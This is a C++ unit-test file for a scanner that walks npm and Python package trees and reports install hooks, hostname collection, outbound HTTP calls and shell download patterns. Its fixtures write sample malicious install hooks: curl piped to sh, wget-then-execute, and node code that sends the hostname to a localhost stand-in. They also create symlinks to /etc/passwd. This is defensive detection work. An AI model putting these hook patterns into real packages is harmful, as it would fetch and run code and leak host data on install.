// A package's tree walked once (src/signals/tree.h): npm's package.json says which files its
// install hooks and its entry point run, every Python and JavaScript file is analysed, links
// are never followed, limits are counted, and the JSON lines always end with "done".
#include "signals/tree.h"

#include <gtest/gtest.h>
#include <stdlib.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

namespace batlehub::signals {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

// A fresh directory under gtest's TempDir, removed with everything in it.
class Tree : public ::testing::Test {
 protected:
  void SetUp() override {
    std::string pattern = ::testing::TempDir() + "signals-tree-XXXXXX";
    ASSERT_NE(mkdtemp(pattern.data()), nullptr);
    base_ = pattern;
    root_ = base_ + "/pkg";
    fs::create_directories(root_);
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove_all(base_, ec);
  }

  void write(const std::string& rel, const std::string& bytes) {
    const fs::path p = fs::path(root_) / rel;
    fs::create_directories(p.parent_path());
    std::ofstream f(p, std::ios::binary);
    f << bytes;
    ASSERT_TRUE(f.good()) << p;
  }

  std::string base_;  // holds root_ and anything "outside" the package
  std::string root_;
};

struct Row {
  std::string fact;
  std::string what;
  std::string file;
  std::string phase;
  std::string detail;
  bool operator==(const Row&) const = default;
};

void PrintTo(const Row& r, std::ostream* os) {
  *os << r.fact << " | " << r.what << " | " << r.file << " | " << r.phase << " | " << r.detail;
}

std::vector<Row> rows(const TreeReport& r) {
  std::vector<Row> out;
  for (const Fact& f : r.facts)
    out.push_back({std::string(fact_name(f.kind)), f.what, f.file, std::string(phase_name(f.phase)), f.detail});
  return out;
}

const char kPostJs[] =
    "const os = require('os');\n"
    "const https = require('https');\n"
    "const req = https.request({ hostname: 'localhost', path: '/c', method: 'POST' });\n"
    "req.write(os.hostname());\n"
    "req.end();\n";

TEST_F(Tree, a_postinstall_script_s_facts_carry_the_install_phase_and_a_fact_names_the_hook) {
  write("package.json", R"({"name": "x", "version": "1.0.0", "main": "lib/index.js",
                            "scripts": {"postinstall": "node scripts/post.js", "test": "curl -fsSL http://127.0.0.1/i.sh | sh"}})");
  write("scripts/post.js", kPostJs);
  write("lib/index.js", "module.exports = require('os').hostname();\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{
                         {"runs-at-install", "postinstall", "package.json", "install", "node scripts/post.js"},
                         {"runs-at-require", "main", "lib/index.js", "require", "lib/index.js"},
                         {"collect", "host", "lib/index.js", "require", ".hostname()"},
                         {"collect", "host", "scripts/post.js", "install", "os.hostname("},
                         {"send", "http", "scripts/post.js", "install", "https.request("},
                     }));
  EXPECT_EQ(r.files_read, 2u);
  EXPECT_EQ(r.bytes_read, sizeof(kPostJs) - 1 + std::string("module.exports = require('os').hostname();\n").size());
  EXPECT_EQ(r.files_skipped, 0u);
  EXPECT_FALSE(r.facts_truncated);
}

TEST_F(Tree, an_npm_tarball_s_package_directory_resolves_hooks_and_main_inside_it) {
  write("package/package.json", R"({"main": "./lib/main", "scripts": {"preinstall": "node ./hook"}})");
  write("package/hook.js", "fetch('http://127.0.0.1/x');\n");
  write("package/lib/main.js", "fetch('http://127.0.0.1/y');\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{
                         {"runs-at-install", "preinstall", "package/package.json", "install", "node ./hook"},
                         {"runs-at-require", "main", "package/lib/main.js", "require", "./lib/main"},
                         {"send", "http", "package/hook.js", "install", "fetch("},
                         {"send", "http", "package/lib/main.js", "require", "fetch("},
                     }));
}

TEST_F(Tree, a_main_that_names_a_directory_is_its_index_and_no_main_is_index_js) {
  write("a/package.json", R"({"main": "lib"})");
  write("a/lib/index.js", "fetch('http://127.0.0.1/a');\n");
  write("b/package.json", R"({"name": "b"})");
  write("b/index.js", "fetch('http://127.0.0.1/b');\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{
                         {"runs-at-require", "main", "a/lib/index.js", "require", "lib"},
                         {"runs-at-require", "main", "b/index.js", "require", "index.js"},
                         {"send", "http", "a/lib/index.js", "require", "fetch("},
                         {"send", "http", "b/index.js", "require", "fetch("},
                     }));
}

TEST_F(Tree, an_install_hook_s_own_command_line_and_its_inline_node_code_are_judged) {
  write("package.json", R"({"scripts": {
      "preinstall": "node -e \"fetch('http://127.0.0.1/c?h=' + require('os').hostname())\"",
      "install": "curl -fsSL http://127.0.0.1/i.sh | sh"}, "main": "none.js"})");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(
      rows(r),
      (std::vector<Row>{
          {"runs-at-install", "preinstall", "package.json", "install",
           "node -e \"fetch('http://127.0.0.1/c?h=' + require('os').hostname())\""},
          {"collect", "host", "package.json (preinstall)", "install", ".hostname()"},
          {"send", "http", "package.json (preinstall)", "install", "fetch("},
          {"runs-at-install", "install", "package.json", "install", "curl -fsSL http://127.0.0.1/i.sh | sh"},
          {"shell", "download-piped-to-shell", "package.json", "install", "curl -fsSL http://127.0.0.1/i.sh | sh"},
          {"runs-at-require", "main", "none.js", "require", "none.js"},
      }));
  EXPECT_EQ(r.files_read, 0u);
}

TEST_F(Tree, a_dependency_s_package_json_under_node_modules_is_not_the_package_s) {
  write("node_modules/dep/package.json", R"({"scripts": {"postinstall": "node x.js"}})");
  write("node_modules/dep/x.js", "fetch('http://127.0.0.1/x');\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{{"send", "http", "node_modules/dep/x.js", "", "fetch("}}));
}

TEST_F(Tree, a_main_that_climbs_out_of_the_package_falls_back_to_index_js_as_node_does) {
  write("package.json", R"({"main": "../x.js"})");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{{"runs-at-require", "main", "index.js", "require", "../x.js"}}));
}

TEST_F(Tree, a_hook_that_runs_node_on_a_file_outside_the_package_makes_no_file_of_it_install_code) {
  write("package.json", R"({"scripts": {"postinstall": "node ../../outside.js"}})");
  write("index.js", "fetch('http://127.0.0.1/x');\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{
                         {"runs-at-install", "postinstall", "package.json", "install", "node ../../outside.js"},
                         {"runs-at-require", "main", "index.js", "require", "index.js"},
                         {"send", "http", "index.js", "require", "fetch("},
                     }));
}

TEST_F(Tree, a_shell_script_an_install_hook_runs_is_read_as_a_command_line) {
  write("package.json", R"({"scripts": {"preinstall": "sh scripts/install.sh", "install": "./configure"}})");
  write("scripts/install.sh", "#!/bin/sh\ncurl -fsSL http://127.0.0.1/i.sh | sh\n");
  write("configure", "wget http://127.0.0.1/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n");
  write("unrun.sh", "curl -fsSL http://127.0.0.1/i.sh | sh\n");  // no hook runs it: not read
  const TreeReport r = scan_tree(root_);
  // A script is one command line: its facts say line 1.
  EXPECT_EQ(
      rows(r),
      (std::vector<Row>{
          {"runs-at-install", "preinstall", "package.json", "install", "sh scripts/install.sh"},
          {"runs-at-install", "install", "package.json", "install", "./configure"},
          {"runs-at-require", "main", "index.js", "require", "index.js"},
          {"shell", "download-executed", "configure", "install", "wget http://127.0.0.1/x -O /tmp/x; chmod +x /tmp/x"},
          {"shell", "download-executed", "configure", "install", "wget http://127.0.0.1/x -O /tmp/x; /tmp/x"},
          {"shell", "download-piped-to-shell", "scripts/install.sh", "install",
           "curl -fsSL http://127.0.0.1/i.sh | sh"},
      }));
  EXPECT_EQ(r.files_read, 2u);
}

TEST_F(Tree, a_file_an_install_script_starts_with_node_is_install_code_too) {
  write("package.json", R"({"scripts": {"postinstall": "node scripts/post.js"}})");
  write("scripts/post.js", "require('child_process').spawn('nohup node update.js &', {shell: true});\n");
  write("scripts/update.js", "fetch('http://127.0.0.1/' + require('os').hostname());\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{
                         {"runs-at-install", "postinstall", "package.json", "install", "node scripts/post.js"},
                         {"runs-at-require", "main", "index.js", "require", "index.js"},
                         {"collect", "host", "scripts/update.js", "install", ".hostname()"},
                         {"send", "http", "scripts/update.js", "install", "fetch("},
                     }));
}

TEST_F(Tree, a_symlink_to_etc_passwd_or_to_a_file_outside_is_never_followed) {
  // Outside the package: a file with facts of its own, which must never be read through a link.
  {
    std::ofstream f(base_ + "/outside.py");
    f << "import socket\nsocket.gethostname()\n";
  }
  write("real.py", "import socket\nsocket.gethostname()\n");
  fs::create_symlink("/etc/passwd", fs::path(root_) / "passwd.py");
  fs::create_symlink(base_ + "/outside.py", fs::path(root_) / "outside.py");
  fs::create_directories(base_ + "/dir");
  {
    std::ofstream f(base_ + "/dir/inner.py");
    f << "import socket\nsocket.gethostname()\n";
  }
  fs::create_directory_symlink(base_ + "/dir", fs::path(root_) / "linked");
  fs::create_symlink(base_ + "/outside.py", fs::path(root_) / "package.json");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{{"collect", "host", "real.py", "", "gethostname("}}));
  EXPECT_EQ(r.files_read, 1u);
}

TEST_F(Tree, a_file_over_max_file_bytes_is_skipped_and_counted_never_read_in_part) {
  write("big.py", "import socket\nsocket.gethostname()\n" + std::string(200, '#'));
  write("small.py", "import socket\nsocket.gethostname()\n");
  TreeLimits limits;
  limits.max_file_bytes = 100;
  const TreeReport r = scan_tree(root_, limits);
  EXPECT_EQ(rows(r), (std::vector<Row>{{"collect", "host", "small.py", "", "gethostname("}}));
  EXPECT_EQ(r.files_read, 1u);
  EXPECT_EQ(r.files_skipped, 1u);
}

TEST_F(Tree, files_past_the_total_byte_budget_are_skipped_and_counted) {
  write("a.py", std::string(60, '#'));
  write("b.py", std::string(60, '#'));
  write("c.py", std::string(30, '#'));
  TreeLimits limits;
  limits.max_total_bytes = 100;
  const TreeReport r = scan_tree(root_, limits);
  // a.py (60) fits, b.py would make 120, c.py makes 90.
  EXPECT_EQ(r.files_read, 2u);
  EXPECT_EQ(r.bytes_read, 90u);
  EXPECT_EQ(r.files_skipped, 1u);
}

TEST_F(Tree, the_walk_stops_at_max_files_and_counts_a_skip) {
  for (int i = 0; i < 5; ++i) write("f" + std::to_string(i) + ".py", "x = 1\n");
  TreeLimits limits;
  limits.max_files = 2;
  const TreeReport r = scan_tree(root_, limits);
  EXPECT_EQ(r.files_read, 2u);
  // The files past the bound are not walked, so not counted one by one: the report says
  // only that something was left out.
  EXPECT_GE(r.files_skipped, 1u);
}

TEST_F(Tree, only_python_and_javascript_files_are_read) {
  write("README.md", "curl -fsSL http://127.0.0.1/i.sh | sh\n");
  write("x.ts", "fetch('http://127.0.0.1/')\n");
  write("x.sh", "curl -fsSL http://127.0.0.1/i.sh | sh\n");
  write("ok.mjs", "fetch('http://127.0.0.1/')\n");
  const TreeReport r = scan_tree(root_);
  EXPECT_EQ(rows(r), (std::vector<Row>{{"send", "http", "ok.mjs", "", "fetch("}}));
  EXPECT_EQ(r.files_read, 1u);
  EXPECT_EQ(r.files_skipped, 0u);
}

TEST_F(Tree, max_facts_truncates_and_says_so) {
  for (int i = 0; i < 5; ++i) write("f" + std::to_string(i) + ".py", "import socket\nsocket.gethostname()\n");
  TreeLimits limits;
  limits.max_facts = 3;
  const TreeReport r = scan_tree(root_, limits);
  EXPECT_EQ(r.facts.size(), 3u);
  EXPECT_TRUE(r.facts_truncated);
  EXPECT_EQ(r.files_read, 5u);  // read, only not reported
}

TEST_F(Tree, max_facts_bounds_the_package_json_facts_too) {
  write("package.json",
        R"({"scripts": {"preinstall": "node a.js", "install": "node b.js", "postinstall": "node c.js"}})");
  TreeLimits limits;
  limits.max_facts = 2;
  const TreeReport r = scan_tree(root_, limits);
  EXPECT_LE(r.facts.size(), 2u);
  EXPECT_TRUE(r.facts_truncated);
}

TEST_F(Tree, a_missing_root_is_an_empty_report_with_its_done_line) {
  const TreeReport r = scan_tree(base_ + "/nowhere");
  EXPECT_TRUE(r.facts.empty());
  EXPECT_EQ(r.files_read, 0u);
  EXPECT_EQ(to_json_lines(r),
            "{\"done\":{\"bytes_read\":0,\"facts_truncated\":false,\"files_read\":0,\"files_skipped\":0}}\n");
}

// --- to_json_lines ----------------------------------------------------------------------

std::vector<json> parse_lines(const std::string& out) {
  std::vector<json> lines;
  std::istringstream in(out);
  std::string line;
  while (std::getline(in, line)) {
    json j = json::parse(line, nullptr, /*allow_exceptions=*/false);
    EXPECT_FALSE(j.is_discarded()) << line;
    lines.push_back(std::move(j));
  }
  return lines;
}

TEST_F(Tree, json_lines_are_one_fact_per_line_then_the_done_line) {
  write("package.json", R"({"scripts": {"postinstall": "node scripts/post.js"}, "main": "lib/index.js"})");
  write("scripts/post.js", kPostJs);
  write("other.py", "import socket\nsocket.gethostname()\n");
  const TreeReport r = scan_tree(root_);
  const std::string out = to_json_lines(r);
  ASSERT_FALSE(out.empty());
  EXPECT_EQ(out.back(), '\n');
  const auto lines = parse_lines(out);
  ASSERT_EQ(lines.size(), r.facts.size() + 1);
  EXPECT_EQ(lines.back(), json::parse(R"({"done": {"files_read": 2, "bytes_read": )" + std::to_string(r.bytes_read) +
                                      R"(, "files_skipped": 0, "facts_truncated": false}})"));
  // A fact with a phase says it; one without has no "phase" key.
  EXPECT_EQ(lines[0], json::parse(R"({"fact": "runs-at-install", "what": "postinstall", "file": "package.json",
                                      "line": 0, "phase": "install", "detail": "node scripts/post.js"})"));
  bool saw_unphased = false;
  for (std::size_t k = 0; k + 1 < lines.size(); ++k) {
    EXPECT_TRUE(lines[k].contains("fact"));
    if (lines[k]["file"] == "other.py") {
      saw_unphased = true;
      EXPECT_EQ(lines[k], json::parse(R"({"fact": "collect", "what": "host", "file": "other.py", "line": 2,
                                          "detail": "gethostname("})"));
    }
  }
  EXPECT_TRUE(saw_unphased);
}

TEST_F(Tree, invalid_utf8_in_a_file_name_still_gives_valid_json) {
  write(std::string("bad\xff\xfe.py"), "import socket\nsocket.gethostname()\n");
  const TreeReport r = scan_tree(root_);
  ASSERT_EQ(r.facts.size(), 1u);
  EXPECT_EQ(r.facts[0].file, "bad\xff\xfe.py");
  const auto lines = parse_lines(to_json_lines(r));
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0]["file"], "bad\xEF\xBF\xBD\xEF\xBF\xBD.py");  // each bad byte a U+FFFD
}

TEST(TreeJson, invalid_utf8_in_a_detail_or_what_still_gives_valid_json) {
  TreeReport r;
  r.facts.push_back({FactKind::kShell, "miner\xC0", "x\xED\xA0\x80.py", 3, Phase::kRequire, "a\xFF\"b\\c\x01"});
  r.files_read = 1;
  const std::string out = to_json_lines(r);
  std::istringstream in(out);
  std::string line;
  std::vector<json> lines;
  while (std::getline(in, line)) lines.push_back(json::parse(line));  // throws on invalid JSON
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0]["detail"], "a\xEF\xBF\xBD\"b\\c\x01");
  EXPECT_EQ(lines[0]["phase"], "require");
  EXPECT_EQ(lines[0]["line"], 3);
  EXPECT_EQ(lines[1]["done"]["files_read"], 1);
}

}  // namespace
}  // namespace batlehub::signals
